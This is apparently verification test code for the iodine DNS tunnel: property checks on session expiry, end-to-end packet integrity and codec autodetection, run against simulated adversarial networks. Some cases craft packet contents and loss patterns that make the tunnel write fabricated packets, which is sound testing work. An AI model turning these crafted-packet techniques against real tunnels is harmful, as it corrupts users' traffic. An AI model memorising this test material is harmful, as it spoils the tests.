// (C04: 'a session silent for more than 60 seconds is refused').  All times in this model are whole seconds, like the server's clock,
// so the boundary is judged exactly: silent <= 60 s live, >= 61 s dead.
static CaseResult history_case(Tape &t)
{
	CaseResult r;
	int m = t.pick({3, 2, 2, 1}) == 0 ? 27 : t.range(26, 30);
	uint32_t server = 0x0A000000u + 1 + t.below(3);
	v_users_free();
	int n = v_init_users(htonl(server), m);
	struct M { bool active = false, auth = false; uint64_t last = 0; };
	std::vector<M> model((size_t)n);
	sim::W.now = 5000000;
	int nsteps = t.range(3, 60), handed = 0, relogin = 0, expired_reuse = 0;
	std::string hist;
	for (int k = 0; k < nsteps && r.ok; k++) {
		switch (t.pick({4, 4, 3, 3})) {
		case 0: {   // a new client asks for a slot
			int got = v_find_available_user();
			bool any_free = false, all_young = true;
			for (int i = 0; i < n; i++) { uint64_t silent = sim::W.now - model[i].last; if (!model[i].active || silent >= 61000000ull) any_free = true; if (!model[i].active || silent > 60000000ull) all_young = false; }
			if (got < 0) { if (any_free) r.fail("C18:no-slot-although-free", scn::fmt("find_available_user returned -1 although a slot is unused or silent >= 61 s (step %d)", k)); }
			else if (got >= n) r.fail("C18:slot-out-of-range", "slot index out of range");
			else {
				uint64_t silent = sim::W.now - model[got].last;
				if (model[got].active && silent <= 60000000ull) r.fail("C18:live-slot-handed-out", scn::fmt("slot %d was handed out again %.1f s after its session was last active", got, silent / 1e6));
				if (all_young) r.fail("C18:live-slot-handed-out", "a slot was handed out although every slot was active within the last 60 s");
				if (model[got].active) expired_reuse++;
				model[got].active = true; model[got].auth = false; model[got].last = sim::W.now; handed++;
				hist += scn::fmt(" alloc->%d", got);
			}
			break;
		}
		case 1: {   // the session on a slot logs in (what the login handler does: authenticated = 1, last_pkt = now)
			int i = (int)t.below((uint32_t)n);
			if (!model[i].active || sim::W.now - model[i].last > 60000000ull) break;
			v_user_set(i, 1, 1, 0, (long)sim::W.wall());
			model[i].auth = true; model[i].last = sim::W.now; relogin++;
			hist += scn::fmt(" login(%d)", i);
			break;
		}
		case 2: {   // traffic from a logged-in session refreshes it
			int i = (int)t.below((uint32_t)n);
			if (!model[i].active || !model[i].auth || sim::W.now - model[i].last > 60000000ull) break;
			v_user_set(i, 1, 1, 0, (long)sim::W.wall()); model[i].last = sim::W.now;
			break;
		}
		default: { static const uint64_t DT[] = {1000000, 10000000, 30000000, 58000000, 62000000, 70000000, 59000000, 60000000, 61000000}; uint64_t dt = DT[t.below(9)]; sim::W.now += dt; hist += scn::fmt(" +%llus", (unsigned long long)(dt / 1000000)); break; }
		}
		// lookups
		for (int i = 0; i < n && r.ok; i++) {
			int got = v_find_user_by_ip(v_user_ip(i));
			uint64_t silent = sim::W.now - model[i].last;
			bool live = model[i].active && model[i].auth && silent <= 60000000ull;
			bool dead = !model[i].active || !model[i].auth || silent >= 61000000ull;
			if (live && got != i) r.fail("C18:lookup-misses-live-session", scn::fmt("lookup of the address of slot %d returned %d although its session is logged in and was active %llu s ago (step %d:%s)", i, got, (unsigned long long)(silent / 1000000), k, hist.c_str()));
			if (dead && got != -1) r.fail("C18:lookup-finds-dead-session", scn::fmt("lookup of the address of slot %d returned %d although its current session is %s (step %d:%s)", i, got, !model[i].active ? "unused" : (!model[i].auth ? "not logged in" : "silent >= 61 s"), k, hist.c_str()));
		}
	}
	r.render = scn::fmt("history: /%d server .%u, %d steps, %d slots handed out, %d logins, %d re-issued after expiry:%s", m, server & 255, nsteps, handed, relogin, expired_reuse, hist.substr(0, 300).c_str());
	r.nontrivial = expired_reuse >= 1 && relogin >= 1;
	r.cls("history"); if (expired_reuse) r.cls("slot-re-issued-after-expiry");
	sim::W.now = 0;
	return r;
}

static CaseResult run_case(Tape &t) { return t.pick({2, 1}) == 0 ? config_case(t) : history_case(t); }

int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i++) if (!strcmp(argv[i], "--level")) level = atoi(argv[i + 1]);
	PropDef d; d.id = "C18"; d.run = run_case; d.exhaustive = exhaustive; d.tape_scale = 1.5;
	int rc = harness_main(argc, argv, d);
	v_users_free();
	return rc;
}
