// C01 -- end-to-end integrity: nothing is written to a tun device that was not read from a peer's.
#include "tunnel_common.h"
#include "session_common.h"
using namespace hz;

// Second shape (one case in six): the real server with a scripted, conforming sender whose upstream history contains total losses
// of seven consecutive packets (so that a 3-bit sequence number comes round again), packets given up after their first fragment, and
// crafted packet contents (zlib's Adler-32 is no obstacle to a sender who chooses the contents); every packet the server writes to
// its tun device must be one the sender completed or gave up.
static CaseResult wrap_case(Tape &t)
{
	CaseResult r;
	ses::Profile P;
	P.w_ping = 5; P.w_up = 9; P.w_offer = 2; P.w_adv = 2; P.w_nreq = 0; P.w_redeliver = 2; P.w_freeze = 1;
	P.max_sessions = 1; P.max_body = 600; P.max_actions = 80; P.wrap_games = true;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = "scripted sender with sequence-number wrap: " + R.render;
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	if (!R.up) return r;
	std::vector<mon::TunEv> wr = R.tm.writes_of(R.s->srv->idx);
	for (auto &w : wr) {
		bool found = false;
		for (auto &pp : R.peers) { for (auto &pkt : pp->up_completed) if (pkt == w.data) found = true; for (auto &pkt : pp->up_abandoned) if (pkt == w.data) found = true; if (pp->up_active && pp->up_cur_pkt == w.data) found = true; }
		bool merged = false;
		if (!found) for (auto &pp : R.peers) for (auto &pkt : pp->up_abandoned) if (pkt.size() == w.data.size() && pkt.size() > 32 && !memcmp(pkt.data(), w.data.data(), 30)) merged = true;
		if (!found) { r.fail(merged ? (R.n_merge_lost_first ? "C01:merged-upstream-first-fragment-lost" : "C01:merged-after-wrap") : (R.n_stray ? "C01:fabricated-after-stray" : "C01:fabricated-after-wrap"), scn::fmt("the server wrote a %zu-byte packet to its tun device that the scripted sender never sent: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render); break; }
	}
	r.nontrivial = R.n_wrap + R.n_merge + R.n_glue + R.n_stray >= 1;
	r.cls("scripted-sender"); if (R.n_wrap) r.cls("sequence-number-wrap-with-crafted-packet"); if (R.n_merge) r.cls("sequence-number-wrap-after-abandoned-first-fragment"); if (R.n_glue) r.cls("packet-crafted-against-stale-buffer-contents"); if (R.n_excluded_k4) r.cls("excluded-known:K4-new-first-fragment-lost-too"); if (R.n_stray) r.cls("late-copy-of-an-old-last-fragment");
	return r;
}


// Third shape (one case in eight): real client and real server on a network that decides by what it sees (an adversarial but legal
// network: it only drops).  The client has just received a one-fragment packet; the next N downstream packets (N mostly 7, so that the
// server's 3-bit sequence number comes round) are one-fragment packets the server sends once and forgets, all lost together with the
// first fragment of a crafted two-fragment packet; then the path is clean again.  Every packet the client writes to its tun device must
// be one that was offered on the server's.
static CaseResult downwrap_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	static const int QT[] = {1, 3, 2, 4, 5, 6};
	c.qtype = QT[t.pick({4, 3, 1, 2, 2, 2})];
	c.lazy = t.chance(1, 3) ? 0 : 1;
	c.downenc = (int)t.pick({5, 2, 2, 2, 2, 2});
	c.frag = c.qtype == 6 ? t.range(50, 100) : t.range(60, 400);
	int N = (int)(const int[]){7, 7, 7, 15, 6, 8, 3}[t.below(7)];
	// one case in three: the merge variant (below); it needs immediate mode -- in lazy mode the answer the network has to let through
	// would belong to a query the client no longer counts among its three most recent
	bool merge = t.chance(1, 3);
	if (merge) c.lazy = 0;
	// merge variant: is the new packet's first fragment lost as well?  Then nothing tells the client that the fragment it holds belongs to
	// another packet: known finding K3 (known_findings.json), excluded by construction unless the driver replays the pinned case
	bool lose_b0 = t.chance(1, 2), excluded_k3 = false;
	if (merge && lose_b0 && !getenv("VERIF_KNOWN")) { lose_b0 = false; excluded_k3 = true; }
	c.srv_seed = t.u32() | 1; c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	mon::TunMonitor tm; tm.attach(sim::W);
	s.start_server(); s.start_client(0);
	bool dropping = false; int n_data_dropped = 0, n_dropped = 0; int Fd = 0; int srv_idx = 0;
	bool hold_up = false, drop_up = false; int pass_up = 0, n_first_frags_passed = 0; std::vector<sim::Datagram> held;
	sim::W.router = [&](const sim::Datagram &dg) {
		if (dg.from_inst != srv_idx && dg.from_inst >= 1) {
			if (pass_up > 0) { pass_up--; if (pass_up == 0) drop_up = true; }
			else if (hold_up) { held.push_back(dg); return; }
			else if (drop_up) return;
		}
		if (dg.from_inst == srv_idx) {
			refproto::Answer a; refproto::DownHdr h;
			bool data = refproto::decode_answer(dg.data, a) && a.ok && a.payload.size() > 2 && !a.qname.empty() && (a.qname[0] == 'p' || a.qname[0] == 'P' || isdigit((unsigned char)a.qname[0]) || (a.qname[0] >= 'a' && a.qname[0] <= 'f') || (a.qname[0] >= 'A' && a.qname[0] <= 'F')) && refproto::down_header(a.payload, h);
			if (data && !h.last && h.dn_frag == 0 && (int)a.payload.size() - 2 > Fd) Fd = (int)a.payload.size() - 2;
			if (dropping) { n_dropped++; if (data) n_data_dropped++; return; }
			if (data && !h.last && h.dn_frag == 0) n_first_frags_passed++;
		}
		sim::W.deliver_after(dg, sim::W.latency_us);
	};
	srv_idx = s.srv->idx;
	bool up = s.wait_all(150);
	r.render = "adversarial network, downstream sequence-number wrap: " + c.describe();
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	r.cls("adversarial-network");
	if (!up) { r.cls("handshake-failed"); return r; }
	Bytes sip = s.server_tun_ip(), cip = sip;
	for (auto &cmd : s.cli[0]->system_calls) {
		unsigned a, b, cc, d; size_t p = cmd.find("ifconfig ");
		if (p != std::string::npos && sscanf(cmd.c_str() + p, "ifconfig %*s %u.%u.%u.%u", &a, &b, &cc, &d) == 4) { cip = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)cc, (uint8_t)d}; break; }
	}
	std::vector<Bytes> offered;
	auto offer = [&](const Bytes &pkt) { offered.push_back(pkt); sim::W.offer_tun(s.srv, pkt); };
	auto incompressible = [&](size_t n, uint32_t seed) { Bytes b(n); uint32_t x = seed | 1; for (auto &v : b) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; v = (uint8_t)(x >> 11); } return b; };
	sim::W.run_for(2000000);
	// calibration: a three-fragment packet shows the fragment size the server really uses
	offer(scn::tun_packet(cip, sip, incompressible((size_t)c.frag * 2 + 30, 77), 0x4000));
	sim::W.run_for(8000000);
	if (Fd < 40) { r.cls("no-calibration"); return r; }
	// a one-fragment packet: the client's downstream position is now (s, fragment 0), nothing stored
	offer(scn::tun_packet(cip, sip, Bytes(16, 0x33), 0x4001));
	sim::W.run_for(6000000);
	// ---- merge variant, phase A: the client ends up holding the first fragment of a packet A that the server has given up
	Bytes mA, mB; bool phaseA = false;
	if (merge) {
		Bytes pre = scn::tun_packet(cip, sip, incompressible((size_t)Fd - 7 - 24, t.u32()), 0x4300);   // exactly the bytes of the first fragment
		if ((int)pre.size() == Fd - 7) {
			Bytes pre2 = pre; bool ok = false;
			for (size_t k = 30; k + 3 < pre2.size(); k++) if (pre2[k] < 255 && pre2[k + 1] >= 2 && pre2[k + 2] < 255) { pre2[k]++; pre2[k + 1] -= 2; pre2[k + 2]++; ok = true; break; }
			mA = pre; mB = pre2;
			Bytes ta = incompressible(40, 91), tb = incompressible(40, 92);
			mA.insert(mA.end(), ta.begin(), ta.end()); mB.insert(mB.end(), tb.begin(), tb.end());
			Bytes za = refproto::zcompress(mA), zb = refproto::zcompress(mB);
			ok = ok && za.size() == mA.size() + 11 && zb.size() == mB.size() + 11 && !memcmp(za.data() + 7, mA.data(), mA.size()) && !memcmp(zb.data() + 7, mB.data(), mB.size()) && (int)za.size() <= 2 * Fd;
			if (ok) {
				hold_up = true;                                   // six or more of the client's queries are held up somewhere
				for (int w = 0; w < 400 && held.size() < 6; w++) sim::W.run_for(100000);
				if (held.size() >= 6) {
					offer(mA);
					sim::W.run_for(50000);
					int before = n_first_frags_passed;
					hold_up = false; pass_up = 1;                    // the next query gets through at once, and its answer (A's first fragment) too
					for (int w = 0; w < 100 && n_first_frags_passed == before; w++) sim::W.run_for(50000);
					if (n_first_frags_passed == before + 1) {
						sim::W.run_for(20000);
						dropping = true;                              // from now on every answer is lost ...
						drop_up = true;                               // ... and so are the client's new queries, which acknowledge the fragment,
						for (auto &h : held) { sim::W.deliver_after(h, sim::W.latency_us); sim::W.run_for(30000); }   // while the held-up ones arrive: stale acknowledgements, the server re-sends and gives up
						held.clear();
						sim::W.run_for(200000);
						drop_up = false;
						phaseA = true;
					}
				}
				hold_up = false; if (!phaseA) { drop_up = false; pass_up = 0; for (auto &h : held) sim::W.deliver_after(h, sim::W.latency_us); held.clear(); }
			}
		}
		if (!phaseA) merge = false;
		if (merge) N = 7;
	}
	dropping = true;
	bool paced = true;
	for (int i = 0; i < N && paced; i++) {
		int before = n_data_dropped;
		offer(scn::tun_packet(cip, sip, Bytes(12 + i, (uint8_t)(0x40 + i)), (uint16_t)(0x4100 + i)));
		for (int w = 0; w < 120 && n_data_dropped == before; w++) sim::W.run_for(100000);
		if (n_data_dropped != before + 1) paced = false;
	}
	if (merge && paced) {
		int before = n_data_dropped;
		if (!lose_b0) dropping = false;                       // the path is clean again before the new packet starts
		offer(mB);
		for (int w = 0; w < 120 && n_data_dropped == before && lose_b0; w++) sim::W.run_for(100000);
		bool sentB = !lose_b0 || n_data_dropped == before + 1;
		dropping = false;
		sim::W.run_for(15000000);
		r.render += scn::fmt(" | merge variant: Fd=%d first fragment of A delivered, A given up, 7 one-fragment packets and B's first fragment lost=%d; answers dropped=%d (with data %d)", Fd, (int)sentB, n_dropped, n_data_dropped);
		if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
		for (auto &w : tm.writes_of(s.cli[0]->idx)) if (std::find(offered.begin(), offered.end(), w.data) == offered.end()) {
			r.fail(lose_b0 ? "C01:merged-downstream-first-fragment-lost" : "C01:merged-downstream-after-wrap", scn::fmt("the client wrote a %zu-byte packet to its tun device that was never offered on the server's: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render);
			break;
		}
		r.nontrivial = sentB;
		if (sentB) r.cls("downstream-merge-after-given-up-first-fragment");
		if (excluded_k3) r.cls("excluded-known:K3-new-first-fragment-lost-too");
		return r;
	}
	Bytes Q = scn::tun_packet(cip, sip, Bytes(20, 0x51), 0x5100);
	Bytes zq = refproto::zcompress(Q);
	Bytes P = scn::tun_packet(cip, sip, incompressible((size_t)Fd - 7 - 24, t.u32()), 0x4200);
	bool crafted = false;
	if (paced && (int)P.size() == Fd - 7) {
		P.insert(P.end(), zq.begin(), zq.end());
		Bytes tail = incompressible(24, 5); P.insert(P.end(), tail.begin(), tail.end());
		Bytes zp = refproto::zcompress(P);
		if (zp.size() == P.size() + 11 && !memcmp(zp.data() + 7, P.data(), P.size()) && (int)zp.size() <= 2 * Fd) {
			int before = n_data_dropped;
			offer(P);
			for (int w = 0; w < 120 && n_data_dropped == before; w++) sim::W.run_for(100000);
			crafted = n_data_dropped == before + 1;
		}
	}
	dropping = false;
	sim::W.run_for(15000000);
	r.render += scn::fmt(" | Fd=%d N=%d paced=%d crafted=%d answers dropped=%d (with data %d)", Fd, N, (int)paced, (int)crafted, n_dropped, n_data_dropped);
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	for (auto &w : tm.writes_of(s.cli[0]->idx)) {
		if (std::find(offered.begin(), offered.end(), w.data) == offered.end()) {
			r.fail("C01:fabricated-downstream-after-wrap", scn::fmt("the client wrote a %zu-byte packet to its tun device that was never offered on the server's: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render);
			break;
		}
	}
	r.nontrivial = crafted;
	if (crafted) r.cls(N % 8 == 7 ? "downstream-sequence-number-wrap-with-crafted-packet" : "downstream-loss-burst-without-wrap");
	return r;
}

static CaseResult run_case(Tape &t)
{
	const char *shape = getenv("VERIF_C01_SHAPE");   // development aid: w / d force the second / third shape (the draws still happen)
	bool w = t.chance(1, 6); if (w || (shape && *shape == 'w')) return wrap_case(t);
	bool dn = t.chance(1, 8); if (dn || (shape && *shape == 'd')) return downwrap_case(t);
	CaseResult r;
	tun::Run R;
	tun::Mode m = t.chance(1, 5) ? tun::CLEAN : tun::FAULTY;
	tun::run_tunnel(t, m, R);
	r.render = R.render;
	r.classes = R.classes;
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress in virtual time");
	if (R.v.failed("C01")) r.fail(R.v.first["C01"].sig, R.v.first["C01"].why + "\n" + R.render);
	r.nontrivial = R.up && R.multi_frag_delivered >= 1 && (R.fn.n_drop + R.fn.n_dup + R.fn.n_delay) > 0;
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C01"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
