// C01 -- end-to-end integrity: nothing is written to a tun device that was not read from a peer's.
#include "tunnel_common.h"
#include "session_common.h"
using namespace hz;

// Second shape (one case in six): the real server with a scripted, conforming sender whose upstream history contains total losses
// of seven consecutive packets (so that a 3-bit sequence number comes round again), packets given up after their first fragment, and
// crafted packet contents (zlib's Adler-32 is no obstacle to a sender who chooses the contents); every packet the server writes to
// its tun device must be one the sender completed or gave up.
static CaseResult wrap_case(Tape &t)
{
	CaseResult r;
	ses::Profile P;
	P.w_ping = 5; P.w_up = 9; P.w_offer = 2; P.w_adv = 2; P.w_nreq = 0; P.w_redeliver = 2; P.w_freeze = 1;
	P.max_sessions = 1; P.max_body = 600; P.max_actions = 80; P.wrap_games = true;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = "scripted sender with sequence-number wrap: " + R.render;
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	if (!R.up) return r;
	std::vector<mon::TunEv> wr = R.tm.writes_of(R.s->srv->idx);
	for (auto &w : wr) {
		bool found = false;
		for (auto &pp : R.peers) { for (auto &pkt : pp->up_completed) if (pkt == w.data) found = true; for (auto &pkt : pp->up_abandoned) if (pkt == w.data) found = true; if (pp->up_active && pp->up_cur_pkt == w.data) found = true; }
		bool merged = false;
		if (!found) for (auto &pp : R.peers) for (auto &pkt : pp->up_abandoned) if (pkt.size() == w.data.size() && pkt.size() > 32 && !memcmp(pkt.data(), w.data.data(), 30)) merged = true;
		if (!found && R.n_late) { r.fail("C01:merged-late-upstream-fragment-after-wrap", scn::fmt("the server wrote a %zu-byte packet to its tun device that the scripted sender never sent (first fragment of the current packet + a late copy of the last fragment of the packet that had the same sequence number eight packets earlier): %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render); break; }
		if (!found) { r.fail(merged ? (R.n_merge_lost_first ? "C01:merged-upstream-first-fragment-lost" : "C01:merged-after-wrap") : (R.n_stray ? "C01:fabricated-after-stray" : "C01:fabricated-after-wrap"), scn::fmt("the server wrote a %zu-byte packet to its tun device that the scripted sender never sent: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render); break; }
	}
	r.nontrivial = R.n_wrap + R.n_merge + R.n_glue + R.n_stray + R.n_late >= 1;
	r.cls("scripted-sender"); if (R.n_wrap) r.cls("sequence-number-wrap-with-crafted-packet"); if (R.n_merge) r.cls("sequence-number-wrap-after-abandoned-first-fragment"); if (R.n_glue) r.cls("packet-crafted-against-stale-buffer-contents"); if (R.n_excluded_k4) r.cls("excluded-known:K4-new-first-fragment-lost-too"); if (R.n_stray) r.cls("late-copy-of-an-old-last-fragment"); if (R.n_late) r.cls("late-copy-of-a-last-fragment-eight-packets-on"); if (R.n_excluded_k5) r.cls("excluded-known:K5-late-fragment-after-wrap");
	return r;
}


#include "advnet_case.h"

static CaseResult run_case(Tape &t)
{
	const char *shape = getenv("VERIF_C01_SHAPE");   // development aid: w / d force the second / third shape (the draws still happen)
	bool w = t.chance(1, 6); if (w || (shape && *shape == 'w')) return wrap_case(t);
	bool dn = t.chance(1, 8); if (dn || (shape && *shape == 'd')) return advnet::downwrap_case(t, false);
	CaseResult r;
	tun::Run R;
	tun::Mode m = t.chance(1, 5) ? tun::CLEAN : tun::FAULTY;
	tun::run_tunnel(t, m, R);
	r.render = R.render;
	r.classes = R.classes;
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress in virtual time");
	if (R.v.failed("C01")) r.fail(R.v.first["C01"].sig, R.v.first["C01"].why + "\n" + R.render);
	r.nontrivial = R.up && R.multi_frag_delivered >= 1 && (R.fn.n_drop + R.fn.n_dup + R.fn.n_delay) > 0;
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C01"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
