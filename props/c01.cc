// C01 -- end-to-end integrity: nothing is written to a tun device that was not read from a peer's.
#include "tunnel_common.h"
using namespace hz;

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	tun::Run R;
	tun::Mode m = t.chance(1, 5) ? tun::CLEAN : tun::FAULTY;
	tun::run_tunnel(t, m, R);
	r.render = R.render;
	r.classes = R.classes;
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress in virtual time");
	if (R.v.failed("C01")) r.fail(R.v.first["C01"].sig, R.v.first["C01"].why + "\n" + R.render);
	r.nontrivial = R.up && R.multi_frag_delivered >= 1 && (R.fn.n_drop + R.fn.n_dup + R.fn.n_delay) > 0;
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C01"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
