// diff_common.h -- options that let C12 re-run the C05 / C06 case functions with a forced receive-buffer residue and
// collect everything the program under test does (datagrams it sends, tun writes, system() strings, exit).
#pragma once
#include "sim/simnet.h"
#include "sim/harness.h"
#include <string>
#include <vector>

namespace dif {
struct Transcript {
	std::vector<std::string> ev;
	std::vector<uint64_t> at;   // virtual time of each event (not compared)
	void add(const std::string &s) { if (ev.size() < 20000) { ev.push_back(s); at.push_back(sim::W.now); } }
};
struct CaseOpt {
	bool force_residue = false;
	int residue_mode = 1; uint8_t residue_byte = 0; hz::Bytes residue_data;
	int variant = 0;          // 0 = zero residue run, 1 = the other run: steps that craft a datagram-specific continuation use it only in run 1
	Transcript *tr = nullptr;
	int inst_filter = -1;     // instance whose behaviour is recorded (-1: all real programs)
	bool perturb = false;     // differential runs: harmless datagrams whose CONTENT differs between the two runs are interleaved (history perturbation)
	sim::Addr perturb_addr;   // their source; what is exchanged with it is not part of the compared transcript
};
inline void apply_residue(const CaseOpt &o)
{
	if (!o.force_residue) return;
	sim::W.residue_mode = o.residue_mode; sim::W.residue_byte = o.residue_byte; sim::W.residue_data = o.residue_data;
}
// a step sends a datagram whose continuation (the bytes a careless reader would take from beyond its end) is known:
// in run 1 of a differential case exactly that continuation is placed after the datagram, in run 0 zeros
struct ScopedResidue {
	int mode; uint8_t byte; hz::Bytes data; bool active;
	// `plain` = what to do in a non-differential run (C05 / C06 proper): true places the continuation as well (the receive buffer
	// then looks as if the complete frame had been received just before, which a peer can arrange by sending it)
	ScopedResidue(const CaseOpt &o, const hz::Bytes &continuation, bool plain = false) : mode(sim::W.residue_mode), byte(sim::W.residue_byte), data(sim::W.residue_data), active(o.force_residue ? o.variant == 1 : plain)
	{ if (active) { sim::W.residue_mode = 2; sim::W.residue_data = continuation; if (sim::W.residue_data.empty()) sim::W.residue_data.push_back(0); } }
	~ScopedResidue() { if (active) { sim::W.residue_mode = mode; sim::W.residue_byte = byte; sim::W.residue_data = data; } }
};

inline void record(const CaseOpt &o)
{
	if (!o.tr) return;
	Transcript *tr = o.tr;
	auto ps = sim::W.on_send;
	bool pt = o.perturb; sim::Addr pa = o.perturb_addr;
	sim::W.on_send = [tr, ps, pt, pa](const sim::Datagram &dg) { if (ps) ps(dg); if (pt && dg.dst == pa) return; if (dg.from_inst >= 0) tr->add("send inst" + std::to_string(dg.from_inst) + " -> " + dg.dst.str() + " " + hz::hexs(dg.data, 70000)); };
	auto pw = sim::W.on_tun_write;
	sim::W.on_tun_write = [tr, pw](sim::Instance *i, const hz::Bytes &b) { if (pw) pw(i, b); tr->add("tunwrite inst" + std::to_string(i->idx) + " " + hz::hexs(b, 70000)); };
	auto prc = sim::W.on_recv;
	sim::W.on_recv = [tr, prc, pt, pa](const sim::Datagram &dg, sim::Instance *i) { if (prc) prc(dg, i); if (pt && dg.src == pa) return; tr->add("recv inst" + std::to_string(i->idx) + " " + std::to_string(dg.data.size()) + "B " + hz::hexs(dg.data, 300)); };
	auto pr = sim::W.on_tun_read;
	sim::W.on_tun_read = [tr, pr](sim::Instance *i, const hz::Bytes &b) { if (pr) pr(i, b); tr->add("tunread inst" + std::to_string(i->idx) + " " + std::to_string(b.size()) + " bytes"); };
	auto py = sim::W.on_system;
	sim::W.on_system = [tr, py](sim::Instance *i, const std::string &c) { if (py) py(i, c); tr->add("system inst" + std::to_string(i->idx) + " " + c); };
}
inline void finish(const CaseOpt &o)
{
	if (!o.tr) return;
	for (sim::Instance *i : sim::W.inst) o.tr->add("final inst" + std::to_string(i->idx) + (i->state == sim::ST_EXITED ? " exited code " + std::to_string(i->exit_code) : " running") + " tun-reads " + std::to_string(i->tun_reads.size()));
}
} // namespace dif
