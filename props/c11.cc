// C11 -- automatic negotiation only selects settings that actually work on the path.
// REAL iodine client <-> relay actor <-> REAL iodined over simnet.  The relay applies a fixed transformation from
// the product family of the property: letter case in names {keep, lower, upper, random}, bytes >= 0x80 {clean,
// strip, reject}, '+' {keep, mangle}, '_' {keep, mangle} -- chosen separately for query names and for names/text
// in answers -- allowed record types (a prefix of the autodetection order NULL,PRIVATE,TXT,SRV,MX,CNAME,A or a
// single type), answer size limit {none, 4096, 1232, 512}, EDNS0 honoured or not (512 without it); refusals are
// SERVFAIL or silence.  The relay parses and rebuilds every message with the reference DNS implementation, the
// way a recursive resolver does.
// Oracle (A) soundness: if the client reaches its tunnel loop, packets offered on both sides (contents containing
// every byte value and the bit groups that map to '+', '_', '-' and the high range) are delivered byte-identically,
// exactly once and in order.  (B) fallback: if the path passes Base32 names in any letter case and answers up to
// 512 bytes for at least one allowed record type, the handshake must succeed.
#include "sim/harness.h"
#include "sim/scenario.h"
#include "sim/monitors.h"
#include "relay.h"
#include <algorithm>
using namespace hz;
using scn::fmt;

using rly::Side; using rly::Profile; using rly::Relay;

static const int ORDER[] = {10, 65399, 16, 33, 15, 5, 1};   // autodetection order NULL PRIVATE TXT SRV MX CNAME A
static int qk_of(int qtype) { for (int k = 0; k < 7; k++) if (ORDER[k] == qtype) return k + 1; return 0; }

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	Profile P;
	auto side = [&](Side &s) { s.kase = (int)t.pick({4, 2, 1, 2}); s.hi = (int)t.pick({4, 2, 2}); s.plus = t.chance(1, 4); s.under = t.chance(1, 4); };
	side(P.q); side(P.a);
	if (t.chance(1, 3)) P.a = Side();          // many relays leave answer data alone
	if (t.chance(1, 2)) { int from = (int)t.below(7); for (int k = from; k < 7; k++) P.types.push_back(ORDER[k]); if (t.chance(1, 2)) { P.types.clear(); for (int k = 0; k <= from; k++) P.types.push_back(ORDER[k]); } }
	else if (t.chance(1, 2)) P.types.push_back(ORDER[t.below(7)]);
	else for (int k = 0; k < 7; k++) P.types.push_back(ORDER[k]);
	static const int LIM[] = {0, 4096, 1232, 512};
	P.limit = LIM[t.pick({3, 1, 2, 2})];
	P.edns0 = !t.chance(1, 3);
	P.reject_silent = t.chance(1, 3);
	P.rewrite_ids = t.chance(1, 2);
	// ---- known findings (known_findings.json), excluded by construction so that the search continues behind them;
	// VERIF_KNOWN=1 (set by the driver when it replays the pinned cases) disables the exclusion.
	bool include_known = getenv("VERIF_KNOWN") != nullptr;
	bool excluded_rawtxt = false, excluded_forced = false;
	scn::Config c;
	c.domain = t.chance(1, 3) ? "a.io" : "t.example.com";
	// client options: autodetect everything, or force one of -T / -O / -m
	int forced = (int)t.pick({5, 2, 2});   // the property quantifies over forced and autodetected -T / -O; the fragment size is always probed
	c.qtype = 0; c.downenc = 0; c.frag = -1;
	if (forced == 1) c.qtype = qk_of(P.types[t.below((uint32_t)P.types.size())]);
	if (forced == 2) {
		c.downenc = 1 + (int)t.below(4);
		// K2: a downstream codec forced with -O is switched to without any test.  Trigger: the forced codec does not survive
		// the answer side of the path (Base64: case / '+'; Base64u: case / '_'; Base128: case / 8-bit).
		bool survives = !((c.downenc == 2 && (P.a.kase != 0 || P.a.plus)) || (c.downenc == 3 && (P.a.kase != 0 || P.a.under)) || (c.downenc == 4 && (P.a.kase != 0 || P.a.hi != 0)));
		if (!survives && !include_known) { c.downenc = 1; excluded_forced = true; }
	}
	if (forced == 3) c.frag = t.range(50, 1200);
	{
		// K1: over TXT the client autodetects the Raw downstream codec with a test pattern that contains no '+' (it does contain '_'):
		// a path that mangles one of them in answer text passes the test and corrupts data.  Trigger: TXT will be the
		// selected type (NULL and PRIVATE refused, TXT allowed) and answer-side punctuation mangling.
		bool has_null = false, has_txt = false; for (int x : P.types) { if (x == 10 || x == 65399) has_null = true; if (x == 16) has_txt = true; }
		bool txt_selected = forced == 1 ? c.qtype == 3 : (!has_null && has_txt);
		if (!include_known && txt_selected && c.downenc == 0 && P.a.plus) { P.a.plus = false; excluded_rawtxt = true; }
	}
	c.lazy = t.chance(1, 4) ? 0 : 1;
	c.raw_mode = false;
	if (t.chance(1, 5)) c.maxlen = t.range(100, 255);
	c.srv_seed = t.u32() | 1; c.cli_seed = t.u32() | 1;
	c.nameserver = sim::Addr::v4(192, 0, 2, 53, 53);
	scn::Session s(c);
	mon::Verdicts v; mon::TunMonitor tm; mon::WireMonitor wm;
	tm.attach(sim::W);
	Relay R; R.p = P; R.t = &t; R.rnd = t.u32() | 1;
	R.front = c.nameserver; R.back = sim::Addr::v4(192, 0, 2, 53, 3053); R.server = scn::SRV4;
